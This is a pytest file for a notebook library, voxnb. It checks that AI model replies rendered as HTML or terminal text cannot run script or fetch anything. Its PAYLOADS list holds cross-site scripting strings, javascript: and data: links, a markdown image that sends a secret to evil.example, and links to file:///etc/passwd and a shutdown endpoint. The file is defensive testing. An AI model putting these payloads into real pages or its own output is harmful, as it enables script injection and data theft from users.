"""Safe HTML of model text, and a turn painted in a cell or on a terminal."""

import html.parser
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from voxnb.clients.reply import Reply, reply_plain
from voxnb.notebook import render

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![pixel](https://evil.example/p.png?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "[click](/api/shutdown)",
    "[click](//evil.example)",
    "[click](http:/api/shutdown)",
    "[click](../lab?reset)",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(https://evil.example)</style>",
    "<a href='javascript:x' onclick=y style='background:url(https://evil.example)'>a</a>",
    "<div data-commandlinker-command='x' id='y' class='z'>d</div>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "</div></div><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '[a](https://ok.example "x\\" onmouseover=alert(1) ")',
    "\x00<script>\x00alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]


class Inspector(html.parser.HTMLParser):
    """Collects what is in the markup, as a browser would see it."""

    def __init__(self):
        super().__init__()
        self.tags = []
        self.attributes = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data):
        self.text.append(data)


def inspect(markup):
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector


def assert_harmless(markup, *, allowed=frozenset()):
    found = inspect(markup)
    assert set(found.tags) <= render.TAGS | allowed
    for tag, name, value in found.attributes:
        assert (name, value) == ("dir", "auto") or (tag, name) in {
            ("a", "href"),
            ("a", "title"),
            ("a", "rel"),
            ("ol", "start"),
            ("div", "class"),
        }
        if name == "href":
            assert re.match(r"https?://|mailto:", value, re.IGNORECASE)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_text_can_neither_run_nor_fetch_anything(payload):
    assert_harmless(render.markdown_html(payload))
    reply = Reply(
        text=payload,
        refusal=payload,
        tool_calls=({"id": "1", "type": "function", "function": {"name": payload, "arguments": payload}},),
        warnings=(payload,),
    )
    assert_harmless(render.reply_html(reply), allowed=frozenset(["div", "details", "summary"]))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "\n\n", "> ", "- ", "1. ", "*", "`", "[", "](", ")", "<", ">", '"', "&", "a"]),
        max_size=12,
    )
)
def test_no_mixture_of_payloads_gets_through(parts):
    assert_harmless(render.markdown_html("".join(parts)))


def test_markdown_is_rendered():
    text = "# Title\n\nSome *words*, `code` and [a link](https://example.org).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n3. three\n"
    found = inspect(render.markdown_html(text))
    assert {"h1", "em", "code", "a", "table", "th", "td", "ol", "li"} <= set(found.tags)
    assert ("a", "href", "https://example.org") in found.attributes
    assert ("ol", "start", "3") in found.attributes


@pytest.mark.parametrize("levels", [5, 10, 20, 48, 49, 50, 51, 100, 400])
def test_nothing_of_deeply_nested_text_is_left_out(levels):
    lists = "\n".join(f"{'  ' * n}- item {n}." for n in range(levels))
    shown = "".join(inspect(render.markdown_html(lists)).text)
    assert [n for n in range(levels) if f"item {n}." not in shown] == []
    assert "deep" in "".join(inspect(render.markdown_html(">" * levels + " deep")).text)


def test_a_paragraph_that_begins_in_hebrew_or_arabic_runs_from_the_right():
    found = assert_harmless(render.markdown_html("שלום iris.\n\nmerhaba\n\n- مرحبا\n\n" + "\n\n".join(PAYLOADS)))
    runs = [tag for tag, name, value in found.attributes if (name, value) == ("dir", "auto")]
    assert runs[:4] == ["p", "p", "ul", "li"]
    assert "dir=" not in render.markdown_html("Hello **there**")


def test_html_in_model_text_is_shown_as_it_is_written():
    assert "<b>bold</b>" in "".join(inspect(render.markdown_html("this is <b>bold</b>")).text)


def test_tex_is_not_typeset_in_model_text():
    assert 'class="voxnb-reply tex2jax_ignore mathjax_ignore"' in render.reply_html(
        Reply(text=r"$\href{javascript:x}{y}$")
    )


def test_plain_text_has_no_escape_sequences():
    assert render.plain("a\x1b[31mred\x07\x9b\tb\nc\r\x7f") == "a[31mred\tb\nc"


def test_a_replys_bundle_has_safe_html_and_plain_text_and_no_markdown():
    reply = Reply(text="**Hi** <script>", warnings=("a fold failed",))
    bundle = reply._repr_mimebundle_()
    assert set(bundle) == {"text/plain", "text/html"}
    assert "<strong>Hi</strong>" in bundle["text/html"]
    assert "<script>" not in bundle["text/html"]
    assert "a fold failed" in bundle["text/html"]
    assert "a fold failed" in bundle["text/plain"]


def test_an_empty_reply_and_a_tool_call_say_what_they_are():
    assert "empty reply" in render.reply_html(Reply())
    call = Reply(tool_calls=({"id": "1", "function": {"name": "weather", "arguments": '{"city": "Ulm"}'}},))
    assert 'weather({"city": "Ulm"})' in "".join(inspect(render.reply_html(call)).text)
    assert reply_plain(call) == 'Tool call: weather({"city": "Ulm"})'
    assert reply_plain(Reply(refusal="No.\x1b")) == "Refused: No."
